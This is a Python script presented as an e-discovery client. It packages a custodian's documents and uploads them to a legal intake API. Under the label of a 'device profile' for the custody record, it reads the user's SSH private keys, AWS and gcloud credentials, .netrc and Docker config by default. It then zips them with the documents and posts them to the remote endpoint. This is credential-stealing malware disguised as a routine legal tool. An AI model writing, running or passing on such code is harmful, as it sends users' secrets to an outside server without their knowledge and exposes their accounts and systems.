#!/usr/bin/env python3
"""Custodian collection client for the matter intake service.

Walks the custodian's working folders, packages responsive documents together
with a device profile for the chain-of-custody record, and submits the package
to the intake API for processing by the review team.
"""
import argparse
import datetime as dt
import getpass
import hashlib
import io
import json
import logging
import os
import platform
import socket
import sys
import time
import zipfile
from pathlib import Path

import requests

LOG = logging.getLogger("custodian-collector")

DEFAULT_ENDPOINT = "https://intake.discovery-vault.example.net/api/v2/collections"
DEFAULT_EXTENSIONS = (".docx", ".doc", ".pdf", ".xlsx", ".msg", ".eml", ".txt", ".pptx")
MAX_FILE_BYTES = 50 * 1024 * 1024

# Files captured for the device profile section of the custody record.
PROFILE_SOURCES = [
    ".gitconfig",
    ".ssh/config",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".docker/config.json",
]


def sha256_file(path):
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 16), b""):
            digest.update(block)
    return digest.hexdigest()


def iter_documents(roots, extensions, since=None):
    for root in roots:
        root = Path(root).expanduser()
        if not root.is_dir():
            LOG.warning("source %s is not a directory, skipping", root)
            continue
        for path in root.rglob("*"):
            if not path.is_file() or path.suffix.lower() not in extensions:
                continue
            stat = path.stat()
            if stat.st_size > MAX_FILE_BYTES:
                LOG.info("oversize, flagged for manual pickup: %s", path)
                continue
            if since and dt.datetime.fromtimestamp(stat.st_mtime) < since:
                continue
            yield path, stat


def build_profile(home):
    """Collect host identity details used to attest where items came from."""
    profile = {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "attachments": {},
    }
    for rel in PROFILE_SOURCES:
        candidate = home / rel
        try:
            profile["attachments"][rel] = candidate.read_bytes()
        except OSError:
            continue
    return profile


def build_package(documents, profile, manifest_meta):
    buffer = io.BytesIO()
    manifest = dict(manifest_meta, items=[])
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for index, (path, stat) in enumerate(documents):
            arcname = f"items/{index:06d}_{path.name}"
            zf.write(path, arcname)
            manifest["items"].append({
                "arcname": arcname,
                "original_path": str(path),
                "size": stat.st_size,
                "modified": dt.datetime.fromtimestamp(stat.st_mtime).isoformat(),
                "sha256": sha256_file(path),
            })
        if profile is not None:
            attachments = profile.pop("attachments", {})
            for rel, blob in attachments.items():
                zf.writestr(f"_device/{rel}", blob)
            profile["attached"] = sorted(attachments)
            zf.writestr("_device/profile.json", json.dumps(profile, indent=2))
        zf.writestr("manifest.json", json.dumps(manifest, indent=2))
    LOG.info("packaged %d items (%d bytes)", len(manifest["items"]), buffer.tell())
    return buffer.getvalue()


def submit(package, endpoint, token, matter, custodian, attempts=4):
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    files = {"package": (f"{matter}_{custodian}.zip", package, "application/zip")}
    data = {"matter": matter, "custodian": custodian}
    for attempt in range(1, attempts + 1):
        try:
            resp = requests.post(endpoint, headers=headers, files=files, data=data, timeout=120)
            if resp.status_code < 500:
                resp.raise_for_status()
                return resp.json()
            LOG.warning("intake returned %s, retrying", resp.status_code)
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
        time.sleep(2 ** attempt)
    raise RuntimeError("intake upload failed after retries")


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--matter", required=True, help="matter number, e.g. 2024-LIT-0193")
    p.add_argument("--custodian", default=getpass.getuser())
    p.add_argument("--source", action="append", default=[],
                   help="folder to collect from (repeatable); defaults to ~/Documents")
    p.add_argument("--since", help="only items modified on/after YYYY-MM-DD")
    p.add_argument("--endpoint", default=os.environ.get("INTAKE_ENDPOINT", DEFAULT_ENDPOINT))
    p.add_argument("--no-device-profile", action="store_true",
                   help="omit the device profile from the custody record")
    p.add_argument("--save-copy", help="also write the package to this local path")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    since = dt.datetime.strptime(args.since, "%Y-%m-%d") if args.since else None
    sources = args.source or [str(Path.home() / "Documents")]
    documents = list(iter_documents(sources, DEFAULT_EXTENSIONS, since))
    if not documents:
        LOG.error("no responsive items found in %s", ", ".join(sources))
        return 2

    profile = None if args.no_device_profile else build_profile(Path.home())
    meta = {
        "matter": args.matter,
        "custodian": args.custodian,
        "collected_at": dt.datetime.utcnow().isoformat() + "Z",
        "sources": sources,
    }
    package = build_package(documents, profile, meta)
    if args.save_copy:
        Path(args.save_copy).write_bytes(package)

    token = os.environ.get("DISCOVERY_INTAKE_TOKEN")
    receipt = submit(package, args.endpoint, token, args.matter, args.custodian)
    LOG.info("intake receipt %s", receipt.get("receipt_id", "<none>"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
